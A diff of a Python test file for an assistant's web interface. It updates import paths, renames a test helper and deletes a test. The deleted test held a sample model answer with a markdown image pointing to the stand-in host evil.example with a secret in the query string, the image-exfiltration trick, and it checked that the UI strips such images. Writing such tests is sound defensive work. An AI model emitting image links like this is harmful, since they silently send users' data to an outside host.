@@ -17,11 +17,11 @@ from hypothesis import strategies as st
 
 from assistant.config import Settings, UISettings
 from assistant.errors import IndexNotFoundError, LLMError
-from assistant.types import SearchFilters
-from assistant.uiformat import MAX_TURN_CHARS, MAX_TURNS, history_to_turns
-from assistant.viewer import DocumentViewer
-from assistant.webui import build_demo, launch, make_responder
-from tests.ui_fakes import FakeService, make_hit, wait_for
+from assistant.types import MAX_TURN_CHARS, MAX_TURNS, SearchFilters
+from assistant.web.format import history_to_turns
+from assistant.web.ui import build_demo, launch, make_responder
+from assistant.web.viewer import DocumentViewer
+from tests.ui_fakes import FakeService, loan_hit, wait_for
 
 SAMPLE = Path(__file__).resolve().parent.parent / "data" / "policies"
 
@@ -126,15 +126,6 @@ def test_failure_mid_stream_keeps_the_partial_answer_and_says_why(running: Runni
     assert running.service.streams[0].closed.is_set()
 
 
-def test_images_in_the_answer_are_neutralised(running: Running) -> None:
-    running.service.deltas = ("See ![x](https://evil.example/p.png?q=secret", ") [1].")
-
-    _, final = ask(running.client, "Show me")
-
-    assert "](https://evil.example" not in final[0]["content"]
-    assert "image removed" in final[0]["content"]
-
-
 def test_cancelling_a_job_closes_the_answer_stream(running: Running) -> None:
     running.service.delay = 0.2
     running.service.deltas = tuple(f"word{i} " for i in range(100))
@@ -215,7 +206,7 @@ def test_empty_question_is_not_sent(service: FakeService) -> None:
 
 def test_no_good_match_is_labelled(service: FakeService) -> None:
     respond = make_responder(service, settings=Settings())
-    service.hits = (make_hit(score=0.1),)
+    service.hits = (loan_hit(score=0.1),)
     service.no_good_match = True
     final = list(respond("Pension age?", [], None, None, 4))[-1]
 
